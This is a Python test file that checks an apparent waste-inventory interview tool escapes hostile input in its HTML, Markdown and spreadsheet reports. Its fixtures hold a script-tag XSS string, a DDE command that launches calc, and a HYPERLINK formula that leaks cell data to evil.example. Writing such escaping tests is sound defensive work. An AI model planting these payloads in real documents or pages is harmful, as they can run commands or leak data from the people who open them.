"""Hostile text typed into an interview is shown as typed in every format, never run."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from interviews import BREWERY, DossierOf
from isassist.dossier import Dossier
from isassist.intake.inventory import import_inventory
from isassist.interview.adapters import live_services
from isassist.interview.engine import Interview
from isassist.interview.loader import shipped_dialog
from isassist.report import render_report

SCRIPT = "<script>alert('x')</script> & Zonen"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
]


@pytest.fixture(scope="module")
def dossier(dossier_of: DossierOf) -> Dossier:
    answers = {**BREWERY, "company_name": SCRIPT, "streams": "; ".join(FORMULAS)}
    answers.pop("ewc")  # one EWC answer for five streams would be a guess
    return dossier_of(answers)


def test_the_hostile_interview_has_all_five_streams(dossier: Dossier) -> None:
    assert [s.name for s in dossier.streams] == FORMULAS
    assert dossier.company.name == SCRIPT


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_html_escapes_a_script_in_the_company_name(dossier: Dossier, lang: str) -> None:
    html = render_report(dossier, "html", lang)
    assert isinstance(html, str)
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; Zonen" in html
    assert 'href="http' not in html and "src=" not in html  # self-contained, nothing fetched


def test_markdown_shows_the_tag_as_text(dossier: Dossier) -> None:
    text = render_report(dossier, "md", "nl")
    assert isinstance(text, str)
    assert "<script" not in text
    assert "&lt;script>" in text
    # a pipe in a stream name cannot break the inventory table: every row has every column
    inventory = text.split("## Inventaris", 1)[1].split("\n## ", 1)[0]
    rows = [line for line in inventory.splitlines() if line.startswith("| s")]
    header = next(line for line in inventory.splitlines() if line.startswith("| ID"))
    assert len(rows) == len(FORMULAS)
    cells = {len(line.replace("\\|", "").split("|")) for line in rows}
    assert cells == {len(header.split("|"))}


def test_no_spreadsheet_cell_is_a_formula(dossier: Dossier) -> None:
    data = render_report(dossier, "xlsx", "nl")
    assert isinstance(data, bytes)
    book = load_workbook(BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet = book.worksheets[0]
    names = [sheet.cell(row=r, column=2).value for r in range(2, 2 + len(FORMULAS))]
    assert names == ["'" + f for f in FORMULAS]


def test_hostile_names_survive_the_round_trip_unchanged(dossier: Dossier, tmp_path: Path) -> None:
    path = tmp_path / "inventory.xlsx"
    data = render_report(dossier, "xlsx", "nl")
    assert isinstance(data, bytes)
    path.write_bytes(data)
    interview = Interview.start(shipped_dialog(), live_services())
    import_inventory(path, interview)
    assert [s.name for s in interview.dossier().streams] == FORMULAS
